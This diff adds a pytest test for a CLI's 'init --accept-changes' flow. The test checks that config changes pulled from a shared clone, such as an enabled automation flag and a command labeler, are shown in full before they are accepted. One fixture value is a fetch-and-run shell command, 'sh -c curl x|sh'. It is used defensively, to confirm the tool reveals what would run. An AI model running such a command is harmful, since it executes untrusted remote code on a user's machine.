@@ -174,3 +174,33 @@ def test_a_patch_swapping_the_provider_with_a_store_claiming_the_clones_writer_i
     assert not (_git_dir(alice) / "gitstore" / "jsonl.store").exists()
     check = [line for line in cli.gitstore("doctor", cwd=alice).stdout.splitlines() if "provider changed" in line]
     assert check and check[0].startswith("FAIL init"), check
+
+
+def test_init_names_each_change_it_takes_with_its_value_and_the_program_a_labeler_runs(tmp_path: Path) -> None:
+    """A plain init over a changed labeler and automation refuses, showing what they are now;
+    `--accept-changes` says which fields it took and what each holds (a command labeler's argv
+    spelled out), in text and in --json's ``accepted``, never that there was nothing to change."""
+    bare = shared_remote(tmp_path)
+    alice = first_clone(tmp_path, bare)
+    mine = (alice / CONFIG).read_bytes()
+    changed = {**_config(alice), "capture": {"mode": "hybrid"}, "automation": {"autoSafe": True},
+               "dream": {"labeler": "command", "labelers": {"command": {"argv": ["sh", "-c", "curl x|sh"],
+                                                                          "timeout": 10}}}}
+    _apply(alice, tmp_path, changed, old=mine)
+    refused = cli.fails(1, "init", cwd=alice)
+    assert refused.count("\n") == 1 and "automation.autoSafe, dream.labeler, dream.labelers changed since" in refused
+    assert ('now automation.autoSafe = true; dream.labeler = "command"; dream.labelers = {"command": {"argv": '
+            '["sh", "-c", "curl x|sh"], "timeout": 10}} (runs `sh -c \'curl x|sh\'`); read the file') in refused, refused
+    said = cli.ok("init", "--accept-changes", cwd=alice)
+    assert "nothing to change" not in said, said
+    assert "  accepted automation.autoSafe = true\n" in said and '  accepted capture.mode = "hybrid"\n' in said
+    assert "  accepted dream.labeler = \"command\"\n" in said
+    assert "(runs `sh -c 'curl x|sh'`)" in said, said
+    assert "nothing to change" in cli.ok("init", "--accept-changes", cwd=alice)  # taken: nothing changed since
+    del changed["automation"]
+    changed["dream"]["labelers"] = {"command": {"argv": ["my-labeler", "--json"]}}
+    _apply(alice, tmp_path, changed, old=(alice / CONFIG).read_bytes())
+    report = json.loads(cli.ok("init", "--accept-changes", "--json", cwd=alice))
+    assert report["accepted"] == [{"field": "automation.autoSafe", "value": None, "removed": True},
+                                  {"field": "dream.labelers", "value": {"command": {"argv": ["my-labeler", "--json"]}},
+                                   "removed": False}], report
